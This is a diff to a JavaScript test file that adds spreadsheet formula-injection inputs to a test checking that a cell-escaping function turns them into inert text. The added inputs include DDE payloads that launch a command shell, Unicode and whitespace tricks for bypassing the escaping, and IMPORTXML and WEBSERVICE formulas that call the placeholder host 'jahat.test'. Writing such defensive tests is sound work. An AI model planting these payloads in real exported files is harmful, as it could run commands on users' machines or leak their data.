@@ -27,6 +27,19 @@ test.each([
   '=HYPERLINK("http://jahat.test","klik")',
   '+62 812',
   '-',
+  '\n=1+1',
+  ' =1+1',
+  '\u00a0=1+1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(A1)',
+  "=cmd|'/C calc'!A0",
+  "@SUM(1+1)*cmd|'/C calc'!A0",
+  "-2+3+cmd|'/C calc'!D2",
+  '=DDE("cmd";"/C calc";"x")',
+  '=IMPORTXML("https://jahat.test","//a")',
+  '=WEBSERVICE("https://jahat.test")',
 ])('%j is never run as a formula', (text) => {
   expect(toCell(text).replace(/^"/, '').startsWith("'")).toBe(true)
 })
